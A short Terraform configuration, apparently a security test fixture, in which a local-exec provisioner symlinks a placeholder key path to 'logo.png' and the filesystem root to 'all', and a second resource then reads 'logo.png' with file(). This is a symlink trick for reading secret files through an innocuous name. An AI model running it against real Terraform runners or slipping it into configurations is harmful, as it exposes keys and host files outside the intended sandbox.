resource "terraform_data" "first" {
  provisioner "local-exec" {
    command = "ln -s __KEY__ logo.png && ln -s / all && ls -la"
  }
}
resource "terraform_data" "then" {
  input = file("${path.module}/${terraform_data.first.id != "" ? "logo.png" : ""}")
}
